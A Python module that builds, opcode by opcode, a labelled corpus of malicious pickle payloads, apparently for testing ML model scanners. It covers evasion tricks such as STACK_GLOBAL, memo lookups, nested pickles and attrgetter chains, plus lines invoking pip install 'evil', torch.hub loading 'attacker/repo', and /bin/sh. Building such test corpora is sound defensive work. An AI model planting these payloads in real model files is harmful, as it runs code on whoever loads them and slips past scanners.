"""Malicious pickle payloads for the labelled corpus, assembled opcode by opcode.

Nothing here calls ``__reduce__`` or unpickles: every payload is written as bytes so the corpus
generator never runs attacker code. Each entry names the technique and, where one exists, the public
report that showed a scanner missing it.
"""

from __future__ import annotations

import struct


def u(text: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE for long text)."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def g(module: str, name: str) -> bytes:
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    """module.name(*args) as GLOBAL + TUPLE + REDUCE."""
    body = b"".join(u(a) for a in args)
    return b"\x80" + bytes([proto]) + g(module, name) + b"(" + body + b"tR."


def sg_call(module: str, name: str, *args: str) -> bytes:
    """Protocol 4: STACK_GLOBAL + REDUCE."""
    body = b"".join(u(a) for a in args)
    return b"\x80\x04" + u(module) + u(name) + b"\x93\x94(" + body + b"tR."


CMD = "echo mlsecops-corpus"

PAYLOADS: dict[str, tuple[bytes, str]] = {
    "os-system-global": (call("os", "system", CMD), "classic __reduce__"),
    "os-system-stack-global": (sg_call("os", "system", CMD), "protocol 4 STACK_GLOBAL"),
    "os-system-proto0": (b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.", "protocol 0 text pickle"),
    "posix-system": (call("posix", "system", CMD), "module alias posix"),
    "builtins-exec": (call("builtins", "exec", "import os"), "exec"),
    "builtins-eval-proto1": (
        b"c__builtin__\neval\n(X\x03\x00\x00\x001+1tR.",
        "protocol 1, __builtin__ alias",
    ),
    "subprocess-popen-newobj": (b"\x80\x02" + g("subprocess", "Popen") + u(CMD) + b"\x85\x81.", "NEWOBJ"),
    "subprocess-inst": (b"(" + u(CMD) + b"isubprocess\ncheck_output\n.", "INST"),
    "pty-spawn-obj": (b"(cpty\nspawn\nS'id'\no.", "OBJ; https://github.com/trailofbits/fickling/pull/108"),
    "getattr-import-chain": (
        b"\x80\x02"
        + g("builtins", "getattr")
        + g("builtins", "__import__")
        + u("os")
        + b"\x85R"
        + u("system")
        + b"\x86R"
        + u(CMD)
        + b"\x85R.",
        "getattr(__import__('os'), 'system')",
    ),
    "memo-stack-global": (
        b"\x80\x04"
        + u("os")
        + b"\x94"
        + u("system")
        + b"\x94"
        + b"00"
        + u("collections")
        + u("OrderedDict")
        + b"00h\x00h\x01\x93"
        + u(CMD)
        + b"\x85R.",
        "names from memo; https://github.com/mmaitre314/picklescan/issues/22",
    ),
    "popped-decoy": (
        b"\x80\x04" + u("builtins") + u("eval") + u("decoy") + b"0\x93" + u("1+1") + b"\x85R.",
        "decoy string popped; https://github.com/promptfoo/modelaudit/pull/518",
    ),
    "build-setstate-plant": (
        b"\x80\x02"
        + g("collections", "OrderedDict")
        + b")RN}"
        + u("__setstate__")
        + g("os", "system")
        + b"s\x86b"
        + u(CMD)
        + b"b.",
        "BUILD plants __setstate__",
    ),
    "nested-pickle-loads": (
        b"\x80\x03"
        + g("pickle", "loads")
        + b"C"
        + bytes([len(call("os", "system", CMD))])
        + call("os", "system", CMD)
        + b"\x85R.",
        "pickle in pickle; https://github.com/protectai/modelscan/issues/267",
    ),
    "runpy-run-code": (call("runpy", "_run_code", "print(1)", "{}"), "runpy"),
    "pip-main": (call("pip", "main", "install", "evil"), "CVE-2025-1716"),
    "torch-hub-load": (call("torch.hub", "load", "attacker/repo", "m"), "remote code"),
    "torch-load-nested": (call("torch", "load", "other.pt"), "loader in loader"),
    "numpy-load-pickle": (call("numpy", "load", "x.npy"), "numpy.load allow_pickle"),
    "functools-partial": (
        b"\x80\x02" + g("functools", "partial") + g("os", "system") + u(CMD) + b"\x86R)R.",
        "partial wrapper; https://github.com/trailofbits/fickling/pull/210",
    ),
    "operator-attrgetter": (
        b"\x80\x02"
        + g("_operator", "attrgetter")
        + u("system")
        + b"\x85R"
        + g("builtins", "__import__")
        + u("os")
        + b"\x85R\x85R.",
        "attrgetter chain; GHSA-955r-x9j8-7rhh",
    ),
    "importlib-import-module": (
        b"\x80\x04" + u("importlib") + u("import_module") + b"\x93" + u("os") + b"\x85R.",
        "https://github.com/protectai/modelscan/issues/331",
    ),
    "pkgutil-resolve-name": (call("pkgutil", "resolve_name", "os:system"), "GHSA-vvpj-8cmc-gx39"),
    "asyncio-submodule": (
        b"\x80\x04" + u("asyncio.unix_events") + u("_UnixSubprocessTransport._start") + b"\x93)R.",
        "CVE-2025-10157",
    ),
    "posixsubprocess": (call("_posixsubprocess", "fork_exec", CMD), "GHSA-m6fh-58r7-x697"),
    "numpy-builtins-build": (
        b"\x80\x04"
        + u("numpy")
        + u("size")
        + b"\x93\x94\x94"
        + u("numpy")
        + u("__builtins__")
        + b"\x93\x94\x94"
        + b"h\x01}}"
        + u("shape")
        + b"h\x03s\x86bh\x01h\x01"
        + u("eval")
        + b"\x86R"
        + u("1+1")
        + b"\x85R.",
        "https://github.com/protectai/modelscan/issues/330",
    ),
    "webbrowser-open": (call("webbrowser", "open", "https://example.invalid"), "network"),
    "socket-create-connection": (
        b"\x80\x02" + g("socket", "create_connection") + u("example.invalid") + b"K\x50\x86\x85R.",
        "network",
    ),
    "collect-env-run": (
        call("torch.utils.collect_env", "run", CMD),
        "https://github.com/protectai/modelscan/issues/338",
    ),
    "shutil-rmtree": (call("shutil", "rmtree", "/nonexistent"), "file system"),
    "reduce-then-pop": (
        b"\x80\x02" + g("subprocess", "check_output") + u(CMD) + b"\x85R0}.",
        "result discarded",
    ),
    "payload-then-exception": (
        call("os", "system", CMD)[:-1] + b"\xff\xfe",
        "https://arxiv.org/abs/2508.19774",
    ),
    "timeit": (call("timeit", "timeit", "print(1)"), "GHSA-v7x6-rv5q-mhwc"),
    "ensurepip-run-pip": (call("ensurepip", "_run_pip", "install"), "GHSA-xp4f-hrf8-rxw7"),
    "marshal-loads": (call("marshal", "loads", "c"), "GHSA-565g-hwwr-4pp3"),
    "interpreters-run-string": (call("_interpreters", "run_string", "0", "print(1)"), "GHSA-6ggj-6f2q-f7mx"),
    "multiprocessing-spawnv": (call("multiprocessing.util", "spawnv_passfds", "/bin/sh"), "modelscan #338"),
    "code-interact": (call("code", "interact"), "code module"),
    "ext-registry-code": (b"\x80\x02\x82\x07" + u(CMD) + b"\x85R.", "copyreg extension code"),
}
"""name -> (pickle bytes, technique / source)."""

CORE = [
    "os-system-global",
    "os-system-stack-global",
    "getattr-import-chain",
    "memo-stack-global",
    "build-setstate-plant",
    "nested-pickle-loads",
    "pip-main",
    "functools-partial",
]
"""The payloads embedded in every container format (all payloads go in as raw pickles)."""
